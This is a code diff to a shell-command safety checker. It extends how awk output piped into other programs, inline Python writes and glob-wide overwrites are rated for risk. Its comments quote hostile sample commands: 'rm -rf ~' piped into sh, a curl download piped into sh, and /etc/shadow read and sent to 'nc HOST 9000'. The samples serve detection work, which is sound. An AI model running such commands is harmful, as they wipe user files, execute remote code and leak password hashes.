@@ -23,7 +23,7 @@ from tui.core.safety.rules.embedded import runs_quietly
 from tui.core.safety.rules.install import install
 from tui.core.safety.rules.known import ROUTINE_REASON
 from tui.core.safety.rules.resources import inline_exhaustion
-from tui.core.safety.targets import classify_delete, classify_empty, classify_write
+from tui.core.safety.targets import Verdict, classify_delete, classify_empty, classify_write
 from tui.core.safety.unwrap import SHELLS, inner_of
 from tui.core.safety.words import Word, decode_c_escapes, literal, split_words
 
@@ -286,9 +286,17 @@ def inline_code(command: Command, ctx: Context, code: Word, language: str) -> No
             files = editors.inline_files(command, code)
             editors.edited(command, ctx, files, code.value, f"{command.name} -i")
             _weakened_in_place(command, ctx, files, code.value)
-        if inline.harmless(code.value, result) and not in_place:
+        only_reads = inline.harmless(code.value, result)
+        if (only_reads or _runs_only_constant(code.value, result)) and not in_place:
             return
     ctx.add(MODERATE, f"runs inline {language} code", command)
+
+
+def _runs_only_constant(code: str, result: inline.InlineResult) -> bool:
+    """Only constant commands run (each rated as itself), nothing else done."""
+    if result.findings or result.deletes or result.removes or result.writes:
+        return False
+    return not (result.swept or result.swept_all) and inline.runs_only_constant(code, result)
 
 
 def _weakened_in_place(command: Command, ctx: Context, files: list[str], script: str) -> None:
@@ -352,9 +360,21 @@ def _inline_effects(
         verdict = classify_delete(path, recursive=False)
         ctx.add(verdict.level, f"{language} code {verdict.reason}", command)
     for path, append in result.writes:
-        written = classify_write(path, append=append)
+        written = _overwritten(path, append)
         if written is not None:
             ctx.add(written.level, f"{language} code {written.reason}", command)
+
+
+def _overwritten(path: str, append: bool) -> Verdict | None:
+    """A write to `path`; to every file of a listing (`for f in glob('~/**/*.docx'):
+    open(f, 'wb')`) each file's content is lost, as if they were deleted."""
+    written = classify_write(path, append=append)
+    if append or not any(c in path for c in "*?["):
+        return written
+    gone = classify_delete(path, recursive="**" in path)
+    if written is not None and written.level >= gone.level:
+        return written
+    return Verdict(gone.level, f"overwrites every file matching {path}: their content is lost")
 
 
 def _python_effects(command: Command, ctx: Context, effects: pycode.PyEffects) -> None:
@@ -364,7 +384,7 @@ def _python_effects(command: Command, ctx: Context, effects: pycode.PyEffects) -
         verdict = classify_delete(path, recursive=recursive)
         ctx.add(max(verdict.level, MODERATE), f"Python code {verdict.reason}", command)
     for path, append in effects.writes:
-        written = classify_write(path, append=append)
+        written = _overwritten(path, append)
         if written is not None:
             ctx.add(written.level, f"Python code {written.reason}", command)
     if effects.secrets and (effects.network or effects.sends):
@@ -584,11 +604,17 @@ _AWK_STRINGS = re.compile(r'(?:\s*"[^"]*"\s*)+')
 
 def _awk_sinks(command: Command, ctx: Context, program: str, sources: list[str]) -> None:
     """`print "rm -rf ~" | "sh"`, `"curl URL" | getline l; print l | "sh"`: what awk writes
-    into a shell or an interpreter is code; rated like the pipeline it amounts to."""
+    into a shell or an interpreter is code; rated like the pipeline it amounts to. Any other
+    command awk writes into is run too: fed by a `"cmd" | getline`, it is that pipeline
+    (`"cat /etc/shadow" | getline l; print l | "nc HOST 9000"`)."""
     for match in _AWK_SINK.finditer(program):
         sink = match.group("cmd").strip()
         words = sink.split()
-        if not words or language_of(posixpath.basename(words[0])) is None:
+        if not words:
+            continue
+        if language_of(posixpath.basename(words[0])) is None:  # `print l | "nc HOST PORT"`
+            for source_code in sources or [""]:
+                ctx.run_code(literal(f"{source_code} | {sink}" if source_code else sink), command)
             continue
         expr = match.group("expr").strip()
         if _AWK_STRINGS.fullmatch(expr):
